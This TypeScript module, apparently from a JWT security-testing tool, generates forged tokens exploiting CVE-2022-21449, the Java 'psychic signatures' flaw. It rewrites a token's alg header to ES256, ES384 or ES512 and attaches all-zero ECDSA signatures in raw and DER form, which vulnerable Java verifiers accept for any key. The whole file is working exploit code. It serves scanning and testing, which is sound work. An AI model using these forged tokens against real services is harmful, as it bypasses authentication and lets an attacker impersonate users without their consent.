import { encodeJsonSegment } from './base64url.ts';
import { patchObject } from './objects.ts';
import type { ParsedJwt } from './parse.ts';
import { joinToken } from './sign.ts';
import type { ForgedToken } from './types.ts';

/** Raw r‖s lengths (JWS encoding) per ECDSA alg. */
export const ECDSA_SIGNATURE_LENGTH = { ES256: 64, ES384: 96, ES512: 132 } as const;
/** DER SEQUENCE { INTEGER 0, INTEGER 0 } (base64url MAYCAQACAQA), for verifiers that expect DER. */
export const DER_ZERO_SIGNATURE = Uint8Array.of(0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00);

/**
 * CVE-2022-21449 ("psychic signatures", Java 15–18): ECDSA with r = s = 0 verifies against any key.
 * Raw all-zero r‖s for ES256/384/512 and the DER form for the token's own ES alg (ES256 otherwise).
 */
export function psychicSignatureTokens(parsed: ParsedJwt): ForgedToken[] {
  const p = parsed.segments.payload;
  const out: ForgedToken[] = [];
  for (const [alg, length] of Object.entries(ECDSA_SIGNATURE_LENGTH)) {
    out.push({
      token: joinToken(encodeJsonSegment(patchObject(parsed.header, { alg })), p, new Uint8Array(length)),
      variant: `${alg}, r=s=0 (raw)`,
      description: `alg ${alg} with an all-zero ${length}-byte r‖s signature.`,
      check: 'jwt-psychic-signature',
    });
  }
  const derAlg = parsed.alg in ECDSA_SIGNATURE_LENGTH ? parsed.alg : 'ES256';
  out.push({
    token: joinToken(encodeJsonSegment(patchObject(parsed.header, { alg: derAlg })), p, DER_ZERO_SIGNATURE),
    variant: `${derAlg}, r=s=0 (DER)`,
    description: `alg ${derAlg} with the DER signature SEQUENCE { INTEGER 0, INTEGER 0 }.`,
    check: 'jwt-psychic-signature',
  });
  return out;
}
